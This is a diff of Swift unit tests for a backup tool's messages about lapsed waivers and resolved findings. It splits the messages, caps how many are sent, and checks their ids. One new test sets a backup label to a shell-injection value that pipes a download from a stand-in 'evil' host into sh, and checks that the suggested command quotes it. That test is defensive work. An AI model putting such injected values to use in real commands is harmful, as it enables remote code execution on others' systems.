@@ -42,27 +42,43 @@ struct DecisionMessageTests {
         let backup = DecidedBackup.all(of: [
             finding(1, waiver(), counts: false), finding(2, resolved, counts: false),
         ])[0]
-        let text = Message(lapsed: backup, at: night).text
+        let messages = Message.lapsed(backup, at: night)
+        #expect(messages.count == 2)
         #expect(
-            text == """
-                Somebody has decided on findings of s3://b/shop/20261101T010000, and that counts no more:
+            messages[0].text == """
+                Somebody has decided on a finding of s3://b/shop/20261101T010000, and that counts no more:
 
                   finding 1, CHECKSUM_MISMATCH of 'base.tar': waived by dba on 2026-11-02 03:00 UTC until 2026-11-03 03:00 UTC, 'known [2J'; that time is over
-                  finding 2, CHECKSUM_MISMATCH of 'base.tar': resolved by dba on 2026-11-02 03:00 UTC, 'copied'; it has been seen again since
+                  and so it is with 1 other finding of that backup
 
                 Type:
                   pg_backctl history findings --open --label 20261101T010000
 
-                """, "\(text)")
+                """, "\(messages[0].text)")
+        #expect(
+            messages[1].text.contains(
+                "resolved by dba on 2026-11-02 03:00 UTC, 'copied'; it has been seen again since"))
+    }
+
+    @Test func `quote what somebody is to type`() {
+        var line = finding(1, waiver(), counts: false)
+        line.place = BackupPlace(url: "s3://b/x;curl evil|sh", label: "x;curl evil|sh")
+        let text = Message.lapsed(DecidedBackup.all(of: [line])[0], at: night)[0].text
+        #expect(text.contains("--label 'x;curl evil|sh'"), "\(text)")
+    }
+
+    @Test func `are few, however many findings there are`() {
+        let backup = DecidedBackup.all(of: (1...50).map { finding($0, waiver(), counts: false) })[0]
+        #expect(Message.lapsed(backup, at: night).count == 5)
     }
 
     @Test func `are the same for one end of a decision, and others for another`() {
-        let first = DecidedBackup.all(of: [finding(1, waiver(), counts: false)])[0]
-        let second = DecidedBackup.all(of: [1, 2].map { finding($0, waiver(), counts: false) })[0]
-        #expect(
-            Message(lapsed: first, at: night).id
-                == Message(lapsed: first, at: night.advanced(bySeconds: 9)).id)
-        #expect(Message(lapsed: first, at: night).id != Message(lapsed: second, at: night).id)
+        let both = DecidedBackup.all(of: [2, 1].map { finding($0, waiver(), counts: false) })[0]
+        let second = DecidedBackup.all(of: [finding(2, waiver(), counts: false)])[0]
+        let ids = Message.lapsed(both, at: night).map(\.id)
+        #expect(Set(ids).count == 2)
+        // One that is healed makes no new message of the other.
+        #expect(Message.lapsed(second, at: night.advanced(bySeconds: 9)).map(\.id) == [ids[1]])
     }
 
     @Test func `stand in the summary of a week`() {
